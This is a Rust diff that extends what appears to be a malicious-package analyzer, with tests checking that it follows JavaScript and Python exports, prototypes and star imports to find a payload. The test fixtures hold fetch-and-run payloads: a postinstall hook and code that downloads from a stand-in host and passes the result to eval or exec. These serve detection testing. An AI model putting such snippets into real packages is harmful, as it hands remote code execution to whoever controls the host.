@@ -296,6 +296,9 @@ impl Analysis<'_> {
                     self.meant(&program, target, *value, level + 1, found);
                 }
             }
+            for value in crate::pure::exports_under(&program, atom, MOST) {
+                self.meant(&program, target, value, level + 1, found);
+            }
         } else if let Some(symbol) = program.declared.get(&(ScopeId(0), atom)) {
             self.values(&program, target, *symbol, level, found);
         }
@@ -452,6 +455,149 @@ def go(*more):
             ),
             file("i.js", &format!("{go}\n{code}")),
         ])
+    }
+
+    /// Whether the payload runs that `x.js` hands out, and that `z.js` has, where the script
+    /// says this, and `y.js` and `z.js` hand that out.
+    fn required(asks: &str, hands_out: &str) -> bool {
+        let go = "const go = () => require('https').get('https://a.invalid/b', (r) => {
+            let d = ''; r.on('data', (c) => d += c); r.on('end', () => eval(d)) });";
+        runs(vec![
+            file(
+                "package.json",
+                r#"{"name": "a", "version": "1.0.0", "scripts": {"postinstall": "node i.js"}}"#,
+            ),
+            file("i.js", asks),
+            file("x.js", &format!("{go}\nexports.go = go;")),
+            file("y.js", hands_out),
+            file("z.js", &format!("{go}\n{hands_out}")),
+        ])
+    }
+
+    #[test]
+    fn what_compilers_write_for_import_and_export_is_followed() {
+        let is_module = "Object.defineProperty(exports, '__esModule', { value: true });";
+        let given =
+            format!("{is_module} exports.default = void 0; var _d = go; exports.default = _d;");
+        let default = "var __importDefault = (this && this.__importDefault) || function (mod) {
+            return (mod && mod.__esModule) ? mod : { 'default': mod } };
+            const z = __importDefault(require('./z'));";
+        assert!(required(&format!("{default} z.default()"), &given));
+        assert!(!required(default, &given));
+        let ask = "require('./y').go()";
+        for hands_out in [
+            "Object.assign(exports, require('./x'))",
+            "const x = require('./x');
+             Object.defineProperty(exports, 'go', { get: function () { return x.go } })",
+            "function __export(m) { for (var p in m) exports[p] = m[p] } __export(require('./x'))",
+            "const m = require('./x'); for (const p in m) exports[p] = m[p]",
+            "__exportStar(require('./x'), exports)",
+            "var _x = require('./x'); Object.keys(_x).forEach(function (key) {
+                Object.defineProperty(exports, key, { get: function () { return _x[key] } }) })",
+        ] {
+            assert!(required(ask, hands_out), "{hands_out}");
+            assert!(!required("require('./y').go", hands_out), "{hands_out}");
+        }
+        let bundled = "var names = {}; var __export = (t, all) => { for (var n in all)
+            Object.defineProperty(t, n, { get: all[n] }) };
+            __export(names, { go: () => go }); module.exports = __toCommonJS(names);";
+        assert!(required("require('./z').go()", bundled));
+        assert!(!required("require('./z').other()", bundled));
+    }
+
+    #[test]
+    fn what_is_put_onto_a_function_or_a_class_is_called_there() {
+        for given in [
+            "module.exports = function () {}; module.exports.go = go;",
+            "function F() {} F.go = go; module.exports = F;",
+            "class A {} A.go = go; module.exports = A;",
+        ] {
+            assert!(required("require('./z').go()", given), "{given}");
+            assert!(!required("require('./z')", given), "{given}");
+            assert!(!required("require('./z').other()", given), "{given}");
+        }
+        assert!(javascript("function f() {} f.run = go; f.run()"));
+        assert!(!javascript("function f() {} f.run = go; f()"));
+    }
+
+    #[test]
+    fn a_method_of_a_prototype_runs_when_it_is_called() {
+        for made in [
+            "function A() {} A.prototype.run = function () { go() };",
+            "function A() {} A.prototype = { run: function () { go() } };",
+            "function A() {} Object.assign(A.prototype, { run() { go() } });",
+            "function A() {} var p = A.prototype; p.run = function () { go() };",
+            "function A() {} A.prototype.run = function () { this.step() };
+             A.prototype.step = function () { go() };",
+            "function B() {} B.prototype.run = function () { go() }; function A() {}
+             require('util').inherits(A, B);",
+            "function B() {} B.prototype.run = function () { go() }; function A() {}
+             A.prototype = Object.create(B.prototype);",
+            "var A = (function () { function A() {} A.prototype.run = function () { go() };
+             return A })();",
+        ] {
+            assert!(javascript(&format!("{made} new A().run()")), "{made}");
+            assert!(!javascript(&format!("{made} new A()")), "{made}");
+            let given = format!("{made} module.exports = A;");
+            let ask = "const A = require('./z'); new A()";
+            assert!(required(&format!("{ask}.run()"), &given), "{made}");
+            assert!(!required(ask, &given), "{made}");
+        }
+    }
+
+    #[test]
+    fn a_module_of_a_package_is_found_by_its_whole_name() {
+        let go = "def go():\n    import urllib.request\n    exec(urllib.request.urlopen('https://a.invalid/b').read())\n";
+        let asked = |code: &str| {
+            runs(vec![
+                file("a/__init__.py", code),
+                file("a/b.py", go),
+                file("a-1.0.dist-info/METADATA", "Name: a\nVersion: 1.0\n"),
+            ])
+        };
+        for (import, call) in [
+            ("import a.b\n", "a.b.go()\n"),
+            (
+                "import importlib\nm = importlib.import_module('a.b')\n",
+                "m.go()\n",
+            ),
+            (
+                "import importlib\nm = importlib.import_module('.b', __package__)\n",
+                "m.go()\n",
+            ),
+            ("m = __import__('a.b', fromlist=['x'])\n", "m.go()\n"),
+            ("m = __import__('a.b')\n", "m.b.go()\n"),
+            (
+                "import sys\nfrom . import b\nm = sys.modules['a.b']\n",
+                "m.go()\n",
+            ),
+        ] {
+            assert!(asked(&format!("{import}{call}")), "{import}");
+            assert!(!asked(import), "{import}");
+        }
+    }
+
+    #[test]
+    fn names_that_are_taken_over_by_a_star_are_followed_from_module_to_module() {
+        let asked = |code: &str, name: &str| {
+            let payload = format!(
+                "def {name}(*more):\n    import urllib.request\n    exec(urllib.request.urlopen('https://a.invalid/b').read())\n"
+            );
+            runs(vec![
+                file("a/__init__.py", code),
+                file("a/b.py", "from .c import *\n"),
+                file("a/c.py", "from .d import *\n"),
+                file("a/d.py", &payload),
+                file("a-1.0.dist-info/METADATA", "Name: a\nVersion: 1.0\n"),
+            ])
+        };
+        for name in ["go", "print"] {
+            for call in ["from .b import *\n", "from . import b\nb."] {
+                assert!(asked(&format!("{call}{name}()\n"), name), "{call}{name}");
+                assert!(!asked(&format!("{call}{name}\n"), name), "{call}{name}");
+            }
+            assert!(!asked(&format!("{name}()\n"), name), "{name}");
+        }
     }
 
     #[test]
